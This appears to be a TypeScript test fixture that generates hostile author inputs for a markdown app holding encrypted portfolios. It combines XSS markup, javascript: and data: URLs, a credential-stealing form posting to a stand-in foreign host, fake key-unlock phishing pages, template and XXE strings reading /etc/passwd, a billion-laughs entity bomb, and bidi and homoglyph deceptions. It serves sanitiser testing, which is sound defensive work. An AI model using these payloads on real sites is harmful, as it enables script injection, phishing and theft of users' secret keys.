/** Inputs that want to be more than text: a few hundred ideas, each put into the places where an author may write. */

import { FOREIGN } from "./hostile";

/** What would run says so by this call. */
const run = (what: string): string => `canary('${what}')`;
const away = `https://${FOREIGN}`;

/** Markup that runs, loads, submits or covers where it is taken for markup. */
const MARKUP: readonly string[] = [
  `<script>${run("script")}</script>`,
  `<ScRiPt src=${away}/x.js></sCrIpT>`,
  `<script type=module>import "${away}/m.js"</script>`,
  `<script/xml>${run("slash")}</script>`,
  `<scr<script>ipt>${run("nested")}</scr</script>ipt>`,
  `<<script>${run("double")}//<</script>`,
  `<img src=x onerror=${run("img")}>`,
  `<img src=${away}/pixel.png>`,
  `<img srcset="${away}/set.png 2x">`,
  `<img src="x" loading=lazy onload=${run("lazy")}>`,
  `<image src=x onerror=${run("image")}>`,
  `<picture><source srcset=${away}/p.png><img></picture>`,
  `<svg onload=${run("svg")}>`,
  `<svg><script>${run("svg script")}</script></svg>`,
  `<svg><animate onbegin=${run("animate")} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run("set")} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run("xlink")}"><text y=20>x</text></a></svg>`,
  `<svg><use href="${away}/s.svg#x"/></svg>`,
  `<svg><image href="${away}/i.png"/></svg>`,
  `<svg><foreignObject><iframe src="${away}"></iframe></foreignObject></svg>`,
  `<svg><style>@import url(${away}/s.css)</style></svg>`,
  `<svg><rect fill="url(${away}/f.svg#a)"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run("mxss")}>`,
  `<math href="javascript:${run("math")}">x</math>`,
  `<iframe src="${away}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${run("srcdoc")}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run("js frame")}"></iframe>`,
  `<object data="${away}/o.swf"></object>`,
  `<embed src="${away}/e">`,
  `<applet code=x codebase="${away}"></applet>`,
  `<frameset><frame src="${away}"></frameset>`,
  `<portal src="${away}"></portal>`,
  `<fencedframe src="${away}"></fencedframe>`,
  `<form action="${away}/steal" method=post><input name=key type=password><button>Unlock</button></form>`,
  `<input type=password placeholder="AGE-SECRET-KEY-1">`,
  `<input autofocus onfocus=${run("focus")}>`,
  `<input type=image src="${away}/i" formaction="javascript:${run("formaction")}">`,
  `<button formaction="${away}" form=gradus-form>Unlock</button>`,
  `<textarea autofocus onfocus=${run("textarea")}></textarea>`,
  `<select autofocus onfocus=${run("select")}><option>x</select>`,
  `<keygen autofocus onfocus=${run("keygen")}>`,
  `<isindex action="${away}" type=image>`,
  `<div contenteditable onfocus=${run("editable")} tabindex=1>type your key here</div>`,
  `<label for=gradus-key>Your key or passphrase</label>`,
  `<a href="javascript:${run("a")}">x</a>`,
  `<a href="data:text/html,<script>${run("data")}</script>">x</a>`,
  `<a href="${away}" ping="${away}/ping" target=_top>x</a>`,
  `<a href=# onclick=${run("click")} onmouseover=${run("over")}>x</a>`,
  `<area href="javascript:${run("area")}"><map name=x>`,
  `<base href="${away}/">`,
  `<link rel=stylesheet href="${away}/s.css">`,
  `<link rel=preload as=image href="${away}/p.png">`,
  `<link rel=dns-prefetch href="//${FOREIGN}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<style>*{background:url(${away}/bg)}body{display:none}</style>`,
  `<style>@import '${away}/i.css';</style>`,
  `<p style="position:fixed;inset:0;background:white">covered</p>`,
  `<div style="background:url(${away}/d)">x</div>`,
  `<div class="gate" id="gradus-lock">covered</div>`,
  `<dialog open class=gradus-dialog>Unlock your portfolio</dialog>`,
  `<div popover id=p>covered</div><button popovertarget=p>x</button>`,
  `<details open ontoggle=${run("toggle")}><summary>x</summary></details>`,
  `<video src="${away}/v" onerror=${run("video")}></video>`,
  `<audio src="${away}/a" autoplay></audio>`,
  `<video><source onerror=${run("source")}></video>`,
  `<track src="${away}/t">`,
  `<body onload=${run("body")} background="${away}/b">`,
  `<html manifest="${away}/m">`,
  `<marquee onstart=${run("marquee")}>x</marquee>`,
  `<table background="${away}/t"><td background="${away}/td">x</table>`,
  `<template shadowrootmode=open><script>${run("shadow")}</script></template>`,
  `<slot onslotchange=${run("slot")}></slot>`,
  `<noscript><p title="</noscript><img src=x onerror=${run("noscript")}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${run("xmp")}>">`,
  `<plaintext>${run("plaintext")}`,
  `<listing>&lt;img src=x onerror=${run("listing")}&gt;</listing>`,
  `<title><img src=x onerror=${run("title")}></title>`,
  `<noembed><img src=x onerror=${run("noembed")}></noembed>`,
  `<noframes></noframes><img src=x onerror=${run("noframes")}>`,
  `<!--><img src=x onerror=${run("comment")}>-->`,
  `<!--[if gte IE 4]><script>${run("conditional")}</script><![endif]-->`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${away}/e">]>&y;`,
  `<?xml-stylesheet href="${away}/x.xsl"?>`,
  `<?php echo 1 ?>`,
  `<![CDATA[<script>${run("cdata")}</script>]]>`,
  `</p></div></main><script>${run("closing")}</script>`,
  `</script><script>${run("end")}</script>`,
  `--><script>${run("uncomment")}</script>`,
  `"><script>${run("quoted")}</script>`,
  `' onmouseover='${run("single")}`,
  `" autofocus onfocus="${run("double quote")}`,
  `\`><script>${run("backtick")}</script>`,
  `<x onclick=${run("unknown")}>x</x>`,
  `<x-y is=z onclick=${run("custom")}>x</x-y>`,
  `<img src=x\u0000 onerror\u0000=${run("nul")}>`,
  `<img/src=x/onerror=${run("slashes")}>`,
  `<img src=x onerror\u000b=${run("vertical tab")}>`,
  `\u00bcscript\u00be${run("utf-7 like")}\u00bc/script\u00be`,
  `+ADw-script+AD4-${run("utf-7")}+ADw-/script+AD4-`,
  `&lt;script&gt;${run("entities")}&lt;/script&gt;`,
  `&#60;script&#62;${run("decimal")}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${run("hex")}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${run("twice")}`,
  `\\<script>${run("escaped")}\\</script>`,
  `\\\\<script>${run("escaped twice")}`,
  `{{ 7 * 7 }}{% include "/etc/passwd" %}{# x #}`,
  "{{ __tera_context }} {{ get_env(name='HOME') }} ${7*7} #{7*7} <%= 7*7 %>",
  "{{ <person.log lines={log} /> }}",
  '__proto__: {"isAdmin": true}',
  '["script",{},"canary(1)"]',
];

/** Ways to stand in a text. */
const WRAPS: readonly (readonly [name: string, wrap: (input: string) => string])[] = [
  ["alone", (input) => input],
  ["in words", (input) => `before ${input} after`],
  ["in emphasis", (input) => `**${input}** and *${input}*`],
  ["in a list", (input) => `- ${input}\n- [x] ${input}\n\n1. ${input}`],
  ["in a quote", (input) => `> ${input}\n>> ${input}`],
  ["in a table", (input) => `| a | b |\n|:--|--:|\n| ${input.replaceAll("|", "\\|").replaceAll("\n", " ")} | x |`],
  ["in a heading", (input) => `### ${input}\n\n${input}\n===`],
  ["in code", (input) => `\`${input}\` and\n\n    ${input}`],
  ["in a fence", (input) => `~~~~\n${input}\n~~~~`],
  ["in a fence's words", (input) => `~~~ ${input.replaceAll("\n", " ")}\nx\n~~~`],
  ["in a link's text", (input) => `[${input}](https://docs.example/)`],
  ["in a link's title", (input) => `[x](https://docs.example/ "${input.replaceAll("\n", " ").replaceAll('"', '\\"')}")`],
  ["in a footnote", (input) => `x[^1]\n\n[^1]: ${input}`],
  ["in a footnote's name", (input) => `x[^${input.replaceAll("\n", " ")}]`],
];

/** Where links and pictures may want to lead. */
const ADDRESSES: readonly string[] = [
  `javascript:${run("link")}`,
  `JaVaScRiPt:${run("cased")}`,
  `java&#9;script:${run("tab")}`,
  `java%0ascript:${run("percent")}`,
  `&#106;avascript:${run("entity")}`,
  `javascript&colon;${run("colon")}`,
  `\u0001javascript:${run("control")}`,
  `\u2028javascript:${run("separator")}`,
  `javascript://docs.example/%0a${run("comment")}`,
  `//${FOREIGN}/relative`,
  `\\\\${FOREIGN}\\share`,
  `/\\${FOREIGN}/x`,
  `https:${FOREIGN}`,
  `https:///${FOREIGN}`,
  `data:text/html,<script>${run("data")}</script>`,
  `data:image/svg+xml,<svg/onload=${run("data svg")}>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`,
  `vbscript:${run("vb")}`,
  `blob:https://${FOREIGN}/x`,
  `filesystem:https://${FOREIGN}/x`,
  `view-source:https://${FOREIGN}`,
  `file:///etc/passwd`,
  `about:blank`,
  `chrome://settings`,
  `ftp://${FOREIGN}/`,
  `intent://${FOREIGN}#Intent;scheme=http;end`,
  `ms-word:ofe|u|https://${FOREIGN}/x.docx`,
  `tel:123`,
  `../../../../site.json`,
  `/people/grace`,
  `index.html`,
  `files/../../person.toml`,
  `files/%2e%2e/x`,
  `attachment:org/x`,
  `attachment:__proto__`,
  `#gradus-key`,
  `#__proto__`,
  `#/0123456789abcdef`,
  `https://${FOREIGN}/`,
  `https://user:password@${FOREIGN}/`,
  `https://docs.example@${FOREIGN}/`,
  `https://d\u043ecs.example/`,
  `https://xn--dcs-0ed.example/`,
  `https://docs.example/\u202egnp.exe`,
  `https://docs.example/"onmouseover="${run("quote")}`,
  `https://docs.example/'onmouseover='${run("apostrophe")}`,
  `https://docs.example/><script>${run("angle")}</script>`,
  `mailto:x@example.com?subject=<script>${run("mail")}</script>`,
  `mailto:x@example.com?attach=/etc/passwd`,
  `https://docs.example/${"a".repeat(9000)}`,
];

/** Ways to write a link or a picture. */
const LINKS: readonly (readonly [name: string, wrap: (address: string) => string])[] = [
  ["link", (address) => `[x](${address})`],
  ["angled link", (address) => `[x](<${address.replaceAll(/[<>]/g, "")}>)`],
  ["titled link", (address) => `[x](${address} "title")`],
  ["reference", (address) => `[x]\n\n[x]: ${address}`],
  ["angled reference", (address) => `[x][y]\n\n[y]: <${address.replaceAll(/[<>]/g, "")}> 'title'`],
  ["autolink", (address) => `<${address.replaceAll(/[<> ]/g, "")}>`],
  ["picture", (address) => `![x](${address})`],
  ["referred picture", (address) => `![x][y]\n\n[y]: ${address}`],
  ["picture in a link", (address) => `[![x](${address})](${address})`],
];

/** Names that a page or its script might use itself. */
const NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "location", "document", "body", "head", "forms", "cookie", "top", "self", "parent", "name", "length", "item", "gradus-key", "gradus-form", "gradus-main", "gradus-lock", "createElement", "getElementById", "innerHTML", "attributes", "nodeName", "children"];

/** Ways to make an element of that name. */
const NAMINGS: readonly (readonly [name: string, wrap: (name: string) => string])[] = [
  ["heading", (name) => `### ${name}\n\n[to it](#${name})`],
  ["heading with an id", (name) => `### x {#${name} .${name}}`],
  ["footnote", (name) => `x[^${name}]\n\n[^${name}]: y`],
  ["fence", (name) => `\`\`\`${name}\nlet x = 1;\n\`\`\``],
  ["anchor", (name) => `<a id=${name} name=${name}>x</a>`],
];

/** Characters that turn, hide or pretend. */
const DECEPTIONS: readonly string[] = [
  ...["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2028", "\u2029", "\u034f", "\u3164", "\u115f", "\ufff9", "\u0085", "\u001b[2J", "\u0007", "\u007f"].map((mark) => `ab${mark}cd`),
  "\u202eevil\u2066\u202d\u202e both ways",
  "\u0410da Okaf\u043er", // Cyrillic letters among Latin ones
  "\u0391\u0434\u0430 \u039f\u212aafor",
  "\ud835\udc00\ud835\udc1d\ud835\udc1a \ud835\udc0e\ud835\udc24\ud835\udc1a\ud835\udc1f\ud835\udc28\ud835\udc2b",
  `Z${"\u0351".repeat(400)}algo`,
  "\u05e9\u05dc\u05d5\u05dd 3 of 4",
  "\u0645\u0631\u062d\u0628\u0627 exceeds L4",
  "\u{e0041}\u{e0042}tags",
  "\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
  "\ufdfd".repeat(60),
  "W".repeat(5000),
  "\u0300\u0301 begins with marks",
];

/** Pages that pretend to be the lock page. */
const IMITATIONS: readonly string[] = [
  `# Unlock your portfolio\n\nYour session has ended.\n\n**Your key or passphrase**\n\n[Unlock](${away}/phish)`,
  `Unlock your portfolio\n===\n\n\\_\\_\\_\\_\\_\\_\\_\\_\n\n[Unlock](${away})`,
  "| Your key or passphrase |\n|---|\n| AGE-SECRET-KEY-1… |\n| **Unlock** |",
  `\`\`\`\n┌──────────────┐\n│ Your key:    │\n│ ____________ │\n│   [Unlock]   │\n└──────────────┘\n\`\`\``,
  `${"&nbsp;\n\n".repeat(200)}# Unlock your portfolio`,
  `${"\u00a0\n\n".repeat(200)}Session ended: paste your key into the search field.`,
  `- [ ] Your key or passphrase\n- [x] Remember me`,
  `![Unlock your portfolio](files/lock.svg)`,
  `[![Unlock](files/lock.svg)](${away}/phish)`,
  "---\n\n## Locked\n\nType `AGE-SECRET-KEY-1…` and press *Unlock*.",
];

/** One input. */
export interface Attack {
  readonly family: string;
  readonly text: string;
}

/** All of them: every idea in every place that suits it. */
export function attacks(): Attack[] {
  const crossed = (family: string, ideas: readonly string[], ways: readonly (readonly [string, (idea: string) => string])[]): Attack[] =>
    ideas.flatMap((idea) => ways.map(([way, wrap]) => ({ family: `${family} ${way}`, text: wrap(idea) })));
  return [
    ...crossed("markup", MARKUP, WRAPS),
    ...crossed("address by", ADDRESSES, LINKS),
    ...crossed("name of a", NAMES, NAMINGS),
    ...crossed("deception", DECEPTIONS, WRAPS.slice(0, 10)),
    ...crossed("imitation", IMITATIONS, WRAPS.slice(0, 5)),
  ];
}

/** What no name may hold: the program refuses it there. */
const NOT_IN_NAMES = /[\u202a-\u202e\u2066-\u2069\0-\x1f\x7f-\x9f]/;

/** Short ones, for fields that are names. */
export const NAMED: readonly string[] = [...MARKUP.filter((input) => input.length < 90), ...DECEPTIONS.filter((input) => input.length < 60)].filter((input) => !NOT_IN_NAMES.test(input));

/** Drawings that want to do more than be seen. */
export function drawings(): string[] {
  const inside = MARKUP.map((input) => `<g>${input}</g><rect width="40" height="20" fill="teal"/>`);
  const covering = ['<rect width="100000" height="100000"/>', `<text y="40">Unlock your portfolio</text>`];
  const svg = (content: string, more = ""): string => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" ${more}>${content}</svg>`;
  const roots = [`onload="${run("root")}"`, `style="position:fixed;inset:0"`, `width="9000" height="9000"`].map((more) => svg("<rect width='9' height='9'/>", more));
  const documents = [`<?xml-stylesheet href="${away}/s.css"?>${svg("")}`, `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`, bomb(), "not a drawing", ""];
  return [...inside.map((content) => svg(content)), ...covering.map((content) => svg(content)), ...roots, ...documents];
}

/** A billion laughs. */
function bomb(): string {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
  return `<!DOCTYPE svg [<!ENTITY l0 "ha">${entities.join("")}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`;
}

/** Names for files, as far as a file system takes them, without what no message shows: it would not tell which file is meant. */
export const FILE_NAMES: readonly string[] = [...MARKUP, ...DECEPTIONS]
  .map((input) => input.replaceAll(/[/\0\n]/g, "_"))
  .filter((name) => Buffer.byteLength(name) < 120 && !name.includes("AGE-SECRET-KEY-") && name !== "." && name !== "..")
  .map((name, at) => `${at}${name}.svg`);
